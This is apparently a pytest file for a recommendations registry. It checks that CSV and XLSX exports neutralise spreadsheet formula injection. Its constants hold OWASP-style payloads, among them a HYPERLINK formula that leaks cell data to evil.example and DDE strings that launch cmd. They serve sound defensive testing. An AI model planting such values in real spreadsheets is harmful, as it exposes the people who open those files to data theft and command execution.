"""Formula injection: what ministries, the NPM and UN documents typed reaches spreadsheets people
open. Every spreadsheet meant for reading (a reminder's complete item list, the annual report's
tables) keeps such a text as text; the registry's own export stays exact, its XLSX cells typed
as text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, timedelta
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, select

from followup.config.policy import Letters, load_policy
from followup.models.cells import FORMULA_STARTS, inert_text, readable_csv, readable_csv_rows
from followup.models.followup import Notification
from followup.reports.annual import compute, read_year, write_report
from followup.spreadsheets.export import export_recommendations
from followup.spreadsheets.ingest import import_recommendations
from followup.steps.deadlines import check_deadlines

#: payloads of the OWASP page and of the audit that found them (a link, DDE, arithmetic)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
DUE = date(2026, 3, 10)


@pytest.fixture
def hostile(engine: Engine, tmp_path: Path) -> Engine:
    """Recommendations whose facility, region, category and text start like formulas."""
    rows = [
        ["external_id", "text", "issued_on", "due_on", "ministry", "facility", "region", "category"],
        ["NPM-1", HYPERLINK, "05.01.2026", DUE.strftime("%d.%m.%Y"), "МВД", DDE, PLUS, MINUS],
        ["NPM-2", AT, "05.01.2026", DUE.strftime("%d.%m.%Y"), "МВД", HYPERLINK, AT, DDE],
        ["NPM-3", "Обеспечить водой", "05.01.2026", DUE.strftime("%d.%m.%Y"), "МВД", "ИВС г. Кокшетау", "Акмолинская область", "вода"],
    ]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    (tmp_path / "hostile.csv").write_text(buffer.getvalue(), encoding="utf-8", newline="")
    import_recommendations(tmp_path / "hostile.csv", engine=engine, actor="clerk")
    return engine


def _cells(text: str, sep: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=sep))


def _assert_inert(rows: list[list[str]], *payloads: str) -> None:
    """No cell starts a formula, and each payload is there as text behind a single quote."""
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
    for payload in payloads:
        assert "'" + payload in cells, (payload, cells)


def test_inert_text_follows_owasp():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert inert_text(start + "1+1") == "'" + start + "1+1"
    assert [inert_text(v) for v in ("Текст", "", "1-2", -5, 3.5, None)] == ["Текст", "", "1-2", -5, 3.5, None]
    text = readable_csv(pd.DataFrame({"=a": ["=1+1", "x;y", 'say "hi"'], "n": [-1, 2, 3]}), sep=";")
    assert text == "\ufeff'=a;n\r\n'=1+1;-1\r\n\"x;y\";2\r\n\"say \"\"hi\"\"\";3\r\n"  # numbers stay numbers


def test_rows_written_one_by_one_read_as_the_frame_does():
    """A reminder's complete list is written row by row (`readable_csv_rows`): the same text as the frame's."""
    rows = [(n, start + "x", "a;b", 'say "hi"', "line\nbreak", "", "Текст") for n, start in enumerate(FORMULA_STARTS, start=1)]
    headers = ["№", "=a", "b", "c", "d", "e", "f"]
    for sep in (";", ","):
        assert readable_csv_rows(headers, rows, sep=sep) == readable_csv(pd.DataFrame(rows, columns=headers), sep=sep)


def test_a_reminder_s_item_list_keeps_formulas_as_text(hostile):
    """The CSV attached to a long reminder opens in Excel: a facility named "=cmd|…" is a name."""
    policy = load_policy().model_copy(update={"letters": Letters(listed_items=1)})
    check_deadlines(DUE + timedelta(days=1), engine=hostile, policy=policy)
    with hostile.connect() as connection:
        [attachment] = [a for (a,) in connection.execute(select(Notification.attachment)) if a]  # type: ignore[call-overload]
    rows = _cells(attachment, ";")
    assert len(rows) == 4  # header and the three items
    _assert_inert(rows, HYPERLINK, AT, DDE)


def test_the_annual_report_s_tables_keep_formulas_as_text(hostile, tmp_path):
    """The report's CSV tables and its workbook: regions and categories as typed, none a live formula."""
    files = write_report(compute(read_year(hostile, 2026, today=date(2027, 1, 15))), tmp_path / "report", "ru")
    by_region = (tmp_path / "report" / "tables" / "recommendations_by_region.csv").read_text(encoding="utf-8")
    by_category = (tmp_path / "report" / "tables" / "recommendations_by_category.csv").read_text(encoding="utf-8")
    _assert_inert(_cells(by_region, ";"), PLUS, AT)
    _assert_inert(_cells(by_category, ";"), MINUS, DDE)
    for path in files.csv:
        _assert_inert(_cells(path.read_text(encoding="utf-8"), ";"))
    with zipfile.ZipFile(files.xlsx) as archive:
        assert not [n for n in archive.namelist() if b"<f>" in archive.read(n)], "a formula in the report's workbook"
    workbook = load_workbook(files.xlsx)
    texts = {c.value: c.data_type for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert {texts.get(p) for p in (PLUS, AT, MINUS, DDE)} == {"s"}  # there, exactly, as text
    assert set(texts.values()) == {"s"}


def test_the_registry_export_stays_exact_and_its_workbook_holds_no_formula(hostile, tmp_path):
    """`followup export` is data that imports back: its CSV holds the texts byte for byte (the
    README says it is not a sheet to open with formulas), its XLSX types them as text."""
    export_recommendations(tmp_path / "registry.csv", engine=hostile)
    rows = _cells((tmp_path / "registry.csv").read_text(encoding="utf-8-sig"), ",")
    assert [rows[1][1], rows[1][5], rows[1][7], rows[1][8]] == [HYPERLINK, DDE, PLUS, MINUS]
    export_recommendations(tmp_path / "registry.xlsx", engine=hostile)
    with zipfile.ZipFile(tmp_path / "registry.xlsx") as archive:
        assert not [n for n in archive.namelist() if b"<f>" in archive.read(n)]
    sheet = load_workbook(tmp_path / "registry.xlsx").active
    assert sheet is not None
    assert [(c.value, c.data_type) for c in sheet[2][1:2]] == [(HYPERLINK, "s")]
